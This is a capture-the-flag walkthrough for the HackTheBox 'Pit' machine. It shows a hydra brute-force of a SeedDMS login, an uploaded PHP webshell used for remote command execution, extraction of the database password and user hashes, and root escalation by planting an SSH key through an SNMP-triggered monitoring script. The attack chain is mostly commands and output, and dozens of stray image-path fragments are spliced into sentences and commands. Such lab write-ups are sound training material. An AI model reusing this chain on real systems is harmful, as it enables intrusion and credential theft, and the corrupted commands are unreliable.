SeedDMS versions < 5.1.11 - Remote Command Execution                  | php/webapps/47022.txt
--- ---
Shellcodes: No Results

As we have some usernames and this is half of the answer, obtained from snmpwalk scans where michelle was found, we can try to guess or brute-force it using hydra, where we interestingly found the password as the same asthe username:

$ hydra -l michelle -P /usr/share/wordlists/rockyou.txt dms-pit.htb http-post-form "/seeddms51x/seeddms/op/op.Login.php:login=^USER^&pwd=^PASS^&lang=:Error" -t 10
Hydra v9.1 (c) 2020 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes (this is non-binding, these *** ignore laws and ethics anyway).

Hydra (https://github.com/vanhauser-thc/thc-hydra) starting at 2021-08-10 16:05:20
[DATA] max 10 tasks per 1 server, overall 10 tasks, 14344399 login tries (l:1/p:14344399), ~1434440 tries per task
[DATA] attacking http-post-form://dms-pit.htb:80/seeddms51x/seeddms/op/op.Login.php:login=^USER^&pwd=^PASS^&lang=:Error
[80][http-post-form] host: dms-pit.htb   login: michelle   password: michelle
1 of 1 target successfully completed, 1 valid password found
Hydra (https://github.com/vanhauser-thc/thc-hydra) finished at 2021-08-10 16:05:24

Now that we have access toSeedDMS, we can use it to exploit the vulnerability, which, after uploading a php document, in this case a simple webshell (<?php system($_GET["cmd"]); ?>), we were able to execute commands using curl leveraging the Document ID of the uploaded file, in this case 31:

$ curl -X GET -G 'http://dms-pit.htb/seeddms51x/data/1048576/31/1.php' --data-urlencode 'cmd=id'
uid=992(nginx) gid=988(nginx) groups=988(nginx) context=system_u:system_r:httpd_t:s0

User flag

Besides having now RCE machine, every reverse shell command I try fails. I have tried several ways (bash, python, external payload, etc) and none of them worked, possibly due to SELinux enabled on the box. Based on that, decided to use the webshell to enumerate the system.

Checking SeedDMS project page on GitHub, identified that there’s a /conf/settings.xml file which contains the credentials to the database, which could be reused for other users in the system.

$ curl -X GET -G 'http://dms-pit.htb/seeddms51x/data/1048576/33/1.php' --data-urlencode 'cmd=cat /var/www/html/seeddms51x/conf/settings.xml' | grep database
  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current
                                 Dload  Upload   Total   Spent    Left  Speed
100 11933    0 11933    0     0  77993      0 --:--:-- --:--:-- --:--:-- 77993
    <edition strictFormCheck="false" viewOnlineFileTypes=".txt;.text;.html;.htm;.xml;.pdf;.gif;.png;.jpg;.jpeg" enableConverting="true" enableEmail="true" enableUsersView="true" enableFullSearch="true" enableClipboard="false" enableFolderTree="true" expandFolderTree="1" enableLanguageSelector="true" stopWordsFile="" sortUsersInList="" enableDropUpload="false" enableRecursiveCount="false" maxRecursiveCount="0" enableThemeSelector="false" fullSearchEngine="sqlitefts" sortFoldersDefault="u" editOnlineFileTypes="" enableMenuTasks="false" enableHelp="false" defaultSearchMethod="database" libraryFolder="0" maxSizeForFullText="0"showSingleSearchHit="false" enableSessionList="false" enableDropFolderList="false" enableMultiUpload="false" defaultDocPosition="end">
       - restricted: Restricted access: only allow users to log in if they have an entry in the local database (irrespective of successful authentication with LDAP).
       - dbDatabase: database where the tables for seeddms are stored (optional - see adodb-readme)
       - dbUser: username for database-access
       - dbPass: password for database-access
    <database dbDriver="mysql" dbHostname="localhost" dbDatabase="seeddms" dbUser="seeddms" dbPass="ied^ieY6xoquu" doNotCheckVersion="false">

Using mysql command line, enumerated tables, columns and then retrieved the username, pwd and role from the users in database

# List Tables
$ curl -X GET -G 'http://dms-pit.htb/seeddms51x/data/1048576/30/1.php' --data-urlencode 'cmd=mysql -u seeddms --password=ied^ieY6xoquu -e "use seeddms; select login,pwd,role from tblUsers; exit"'

# List Columns from tblUsers
$ curl -X GET -G 'http://dms-pit.htb/seeddms51x/data/1048576/34/1.php' --data-urlencode 'cmd=mysql -u seeddms --password=ied^ieY6xoquu -e "use seeddms; show columns from tblUsers; exit"'

# Dump credentials
$ curl -X GET -G 'http://dms-pit.htb/seeddms51x/data/1048576/30/1.php' --data-urlencode 'cmd=mysql -u seeddms --password=ied^ieY6xoquu -e "use seeddms; select login,pwd,role from tblUsers; exit"'
login   pwd     role
admin   155dd275b4cb74bd1f80754b61148863        1guest   NULL    2
michelle        2345f10bb948c5665ef91f6773b3e455        0
jack    682d305fdaabc156430c4c6f6f5cc65d        0

With the hashes, tried to crack them using john and rockyou.txt but with no success.

As we have the database credentials, remembered that we have access to the cockpit page, where the credentialscould not be validated for user seeddms but worked successfully for michelle.

Accessing the terminal from the web portal, was able to get the user.txt hash

[michelle@pit ~]$ ls
check.sh  user.txt
[michelle@pit ~]$ cat user.txt

Root flag

After submitting the flag, was unable to run sudo -l as usually done, sostarted the enumeration from michelle’s account using linpeas.sh, where nothing toointeresting was foundbesides an uncommon file containing particular privileges.

╔═══╣ Files with ACLs (limited to 50)
╚ https://book.hacktricks.xyz/linux-unix/privilege-escalation#acls
# file: /usr/local/monitoring
USER   root      rwx
user   michelle  -wx
GROUP  root      rwx
mask             rwx
other            ---

Inspecting this file, noticed that’s actually a directory but we don’t have read access on (just write and execute according to above output). Searching for other files that makes reference to this folder, ran a recusive grep in the file system, where I have found a file previously found in snmpwalk enum..

[michelle@pit local]$ grep -r "/usr/local/monitoring/"  / 2>/dev/null
/usr/bin/monitor:for script in /usr/local/monitoring/check*sh
[michelle@pit local]$ cat /usr/bin/monitor

for script in/usr/local/monitoring/check*sh
    /bin/bash $script
[michelle@pit local]$

As we can see, this script runs any file with check*.sh in the directory /usr/local/monitoring, allowing us to run any arbitrary code from the process that starts /usr/bin/monitor.

To betterunderstanding on how I could leverage the permission found, decided to review the recon output and found a mention to the file monitor, referenced as nxExtendedCommands from SNMP scan.

$ grep -r "/usr/bin/monitor" .
./scans/snmpwalk_nsExtendObjects.txt:NET-SNMP-EXTEND-MIB::nsExtendCommand."monitoring" = STRING: /usr/bin/monitor
./scans/snmp_full.txt:iso. = STRING: "/usr/bin/monitor"

According to this guide SNMP RCE - HackTricks, if any binary is configured as nsExtendedCommand (or you’re able to add any in these settings), you can trigger its execution using snmpwalk.Based on the gathered information, we probably have a way to gain rootaccess, where the following steps were executed:

  • Created a checkXXXX.sh file, which adds a public key inside ssh’s authorized_keys in the profile that runs the process and copied it to /usr/bin/monitor.

    echo "ssh-rsa <base64PubKey> root@kali" >> ~/.ssh/authorized_keys
  • From the attacker machine, triggered the nsExtendedObject action

    # Trigger Extended objects
    snmpwalk -v 1 -c public NET-SNMP-EXTEND-MIB::nsExtendObjects
  • Right after that, connected usingthe corresponding private key via SSH as user root, where I was able to get the final flag

$ ssh -i pit root@
Web console: https://pit.htb:9090/

Last login: Tue Aug 10 14:50:51 2021 from
[root@pit ~]# id && hostname
uid=0(root) gid=0(root) groups=0(root) context=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023
[root@pit ~]# cat root.txt
[root@pit ~]#

I hope you guys have enjoyed!

See you at the next post :smile: